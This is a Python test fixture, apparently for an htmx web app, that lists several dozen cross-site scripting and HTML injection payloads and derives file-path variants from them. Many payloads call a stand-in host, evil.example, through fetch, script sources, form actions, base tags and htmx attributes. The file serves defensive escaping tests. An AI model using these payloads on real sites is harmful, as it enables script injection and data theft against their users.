"""What hostile text may try on a page: to run, to open a dialog, to ask a host, to bring htmx to life."""

from __future__ import annotations

RUN = "window.pwned=1;alert(1);fetch('//evil.example/x')"

PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    f'<img src=x onerror="{RUN}">',
    "<img src=//evil.example/pixel.gif>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</pre></code><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe src=//evil.example/></iframe>",
    "<object data=//evil.example/x></object><embed src=//evil.example/x>",
    "<a href=javascript:alert(1)>click</a>",
    "javascript:alert(1)//",
    "[click](javascript:alert(1))",
    "<form action=//evil.example/><input name=key autofocus></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';*{background:url(//evil.example/x)}</style>",
    "<div style=background:url(//evil.example/x)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<div hx-get=//evil.example/x hx-trigger=load></div>",
    "<div hx-get=/tasks/new hx-trigger=load hx-swap=outerHTML data-live=1></div>",
    "<div data-hx-get=/tasks/new data-hx-trigger='every 1s'></div>",
    "<div hx-on:load=alert(1) hx-on::after-request=alert(1)></div>",
    "<div hx-sse:connect=//evil.example/sse></div>",
    "<template><script>alert(1)</script></template><hx-partial hx-target=body>x</hx-partial>",
    "{{ 7*7 }}{% raw %}${alert(1)}#{7*7}<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "\n\nevent: end\ndata: <script>alert(1)</script>\n\n",
    "\r\rdata: <img src=x onerror=alert(1)>\r\r",
    "<!--<script>alert(1)//--></script><![CDATA[<img src=x onerror=alert(1)>]]>",
    "\u202e<script>alert(1)</script>\u202c\u200b\ufeff",
    "\u2028<script>alert(1)</script>\u2029",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<x" + "<" * 300 + "script>alert(1)",
)
"""At least thirty; some are for places that others cannot reach, such as attributes or an event stream."""

IN_PATHS = tuple(text for text in PAYLOADS if text.isprintable() and len(text) < 200)
"""Those that may stand in a file's name, after what a path may not hold was taken out."""


def as_path(text: str) -> str:
    """A payload as a file's path: without empty parts and what climbs up."""
    parts = [part for part in text.replace("\\", "").split("/") if part not in ("", ".", "..")]
    return "/".join(parts)
